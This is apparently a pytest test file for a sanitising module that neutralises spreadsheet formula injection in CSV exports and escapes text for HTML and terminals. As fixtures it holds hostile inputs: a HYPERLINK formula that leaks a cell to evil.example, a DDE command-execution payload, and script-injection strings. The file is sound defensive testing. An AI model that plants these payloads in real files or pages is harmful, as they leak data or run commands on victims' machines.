"""Spreadsheet-safe CSV output (formula injection) and HTML-safe text."""

from __future__ import annotations

import csv
import os
import stat
from decimal import Decimal
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from incidents.present import safe

HOSTILE = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "@SUM(1)", "-2+3", "\t=1",
           "+1", "\r=1", "=cmd|' /C calc'!A0"]


def read_back(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8", newline="") as source:
        return list(csv.reader(source))


# ---------------------------------------------------------------- neutralise_cell


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_starting_with_a_formula_trigger_gets_a_quote(value: str) -> None:
    assert safe.neutralise_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["", "Outage in europe", "1-2", "a=b", " =1", "'=1", "2025"])
def test_other_cells_are_unchanged(value: str) -> None:
    assert safe.neutralise_cell(value) == value


def test_neutralise_cell_refuses_a_number() -> None:
    with pytest.raises(TypeError, match="leave numbers and dates unchanged"):
        safe.neutralise_cell(-2)  # type: ignore[arg-type]


# ---------------------------------------------------------------- write_spreadsheet_csv


def frame_with_everything() -> pd.DataFrame:
    return pd.DataFrame({
        "title": ["=HYPERLINK(\"https://evil.example\")", "@SUM(1)", "plain"],
        "note": pd.Series(["-2+3", "\t=1", None], dtype="string"),
        "vendor": pd.Categorical(["+cat", "ok", "ok"]),
        "count": [3, -2, 0],
        "ratio": [-0.5, 1.25, np.nan],
        "mixed": pd.Series([-7, "-7", Decimal("-1.5")], dtype=object),
        "start": pd.to_datetime(["2025-01-01", "2025-02-01", "2025-03-01"], utc=True),
    })


def test_text_cells_are_neutralised_in_the_file(tmp_path: Path) -> None:
    rows = read_back(safe.write_spreadsheet_csv(frame_with_everything(), tmp_path / "out.csv"))
    header = rows[0]
    column = {name: [row[header.index(name)] for row in rows[1:]] for name in header}
    assert column["title"] == ["'=HYPERLINK(\"https://evil.example\")", "'@SUM(1)", "plain"]
    assert column["note"] == ["'-2+3", "'\t=1", ""]
    assert column["vendor"] == ["'+cat", "ok", "ok"]


def test_numbers_stay_numbers_and_negative_numbers_are_not_quoted(tmp_path: Path) -> None:
    path = safe.write_spreadsheet_csv(frame_with_everything(), tmp_path / "out.csv")
    back = pd.read_csv(path)
    assert back["count"].tolist() == [3, -2, 0]
    assert pd.api.types.is_integer_dtype(back["count"])
    assert back["ratio"].iloc[:2].tolist() == [-0.5, 1.25]
    assert pd.api.types.is_float_dtype(back["ratio"])


def test_numbers_in_a_text_column_stay_numbers_but_text_that_looks_like_one_is_quoted(
        tmp_path: Path) -> None:
    rows = read_back(safe.write_spreadsheet_csv(frame_with_everything(), tmp_path / "out.csv"))
    mixed = [row[rows[0].index("mixed")] for row in rows[1:]]
    assert mixed == ["-7", "'-7", "-1.5"]


def test_dates_are_written_unchanged(tmp_path: Path) -> None:
    rows = read_back(safe.write_spreadsheet_csv(frame_with_everything(), tmp_path / "out.csv"))
    assert rows[1][rows[0].index("start")] == "2025-01-01 00:00:00+00:00"


def test_the_input_frame_is_not_modified(tmp_path: Path) -> None:
    frame = frame_with_everything()
    before = frame.copy()
    safe.write_spreadsheet_csv(frame, tmp_path / "out.csv")
    pd.testing.assert_frame_equal(frame, before)


def test_hostile_column_names_are_neutralised(tmp_path: Path) -> None:
    frame = pd.DataFrame({"=1+1": ["a"], "ok": ["b"]})
    assert read_back(safe.write_spreadsheet_csv(frame, tmp_path / "out.csv"))[0] == [
        "'=1+1", "ok"]


def test_other_objects_are_written_as_neutralised_text(tmp_path: Path) -> None:
    frame = pd.DataFrame({"ids": pd.Series([["=x", "y"]], dtype=object)})
    rows = read_back(safe.write_spreadsheet_csv(frame, tmp_path / "out.csv"))
    assert rows[1] == ["['=x', 'y']"]
    frame = pd.DataFrame({"ids": pd.Series([Path("=evil")], dtype=object)})
    assert read_back(safe.write_spreadsheet_csv(frame, tmp_path / "out.csv"))[1] == ["'=evil"]


def test_the_file_is_plain_utf8_without_a_bom(tmp_path: Path) -> None:
    frame = pd.DataFrame({"title": ["Panne réseau", "東京リージョン"]})
    data = safe.write_spreadsheet_csv(frame, tmp_path / "out.csv").read_bytes()
    assert not data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8") == "title\r\nPanne réseau\r\n東京リージョン\r\n"


def test_a_quote_comma_or_newline_in_a_cell_round_trips(tmp_path: Path) -> None:
    frame = pd.DataFrame({"note": ['said "fixed", then\nbroke again']})
    rows = read_back(safe.write_spreadsheet_csv(frame, tmp_path / "out.csv"))
    assert rows == [["note"], ['said "fixed", then\nbroke again']]


def test_the_path_is_returned_and_an_old_file_replaced(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    target.write_text("old contents", encoding="utf-8")
    assert safe.write_spreadsheet_csv(pd.DataFrame({"a": [1]}), str(target)) == target
    assert target.read_bytes() == b"a\r\n1\r\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_a_failed_write_leaves_the_old_file_and_no_temporary_file(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    def disk_full(self: pd.DataFrame, handle: object, **kwargs: object) -> None:
        handle.write("half a ro")  # type: ignore[attr-defined]
        raise OSError(28, "No space left on device")

    target = tmp_path / "out.csv"
    target.write_text("old contents", encoding="utf-8")
    monkeypatch.setattr(pd.DataFrame, "to_csv", disk_full)
    with pytest.raises(OSError, match="No space left"):
        safe.write_spreadsheet_csv(pd.DataFrame({"a": ["x"]}), target)
    assert target.read_text(encoding="utf-8") == "old contents"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["out.csv"]


def test_the_temporary_file_is_in_the_target_folder(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    moves: list[tuple[Path, Path]] = []
    real_replace = os.replace

    def spy(source: str | os.PathLike[str], target: str | os.PathLike[str]) -> None:
        moves.append((Path(source), Path(target)))
        real_replace(source, target)

    monkeypatch.setattr(safe.os, "replace", spy)
    target = tmp_path / "sub" / "out.csv"
    target.parent.mkdir()
    safe.write_spreadsheet_csv(pd.DataFrame({"a": [1]}), target)
    [(source, moved_to)] = moves
    assert source.parent == target.parent
    assert source != target
    assert moved_to == target


def test_the_file_gets_normal_permissions_not_private_temp_ones(tmp_path: Path) -> None:
    umask = os.umask(0o022)
    try:
        path = safe.write_spreadsheet_csv(pd.DataFrame({"a": [1]}), tmp_path / "out.csv")
    finally:
        os.umask(umask)
    assert stat.S_IMODE(path.stat().st_mode) == 0o644


# ---------------------------------------------------------------- escape_text


def test_an_img_tag_is_escaped() -> None:
    assert safe.escape_text("<img src=x onerror=alert(1)>") == (
        "&lt;img src=x onerror=alert(1)&gt;")


def test_a_script_break_out_is_escaped() -> None:
    escaped = safe.escape_text("</script><script>alert(1)</script>")
    assert "<" not in escaped
    assert escaped.startswith("&lt;/script&gt;&lt;script&gt;")


def test_quotes_and_ampersands_are_escaped_for_attributes() -> None:
    assert safe.escape_text("a \"b\" & 'c'") == "a &quot;b&quot; &amp; &#x27;c&#x27;"


@pytest.mark.parametrize("missing", [None, float("nan"), np.nan, pd.NA, pd.NaT])
def test_missing_values_become_an_empty_string(missing: object) -> None:
    assert safe.escape_text(missing) == ""


@pytest.mark.parametrize(("value", "expected"), [(3, "3"), (-2.5, "-2.5"), ("plain", "plain"),
                                                 (pd.Timestamp("2025-01-01"),
                                                  "2025-01-01 00:00:00")])
def test_other_values_become_their_text(value: object, expected: str) -> None:
    assert safe.escape_text(value) == expected


def test_terminal_text_shows_control_and_bidi_characters_escaped() -> None:
    from incidents.errors import terminal_text

    shown = terminal_text("a\x1b[2Jb\x00c\u202ed\re\nf\tg")
    assert shown == "a\\x1b[2Jb\\x00c\\u202ed\\re\nf\tg"
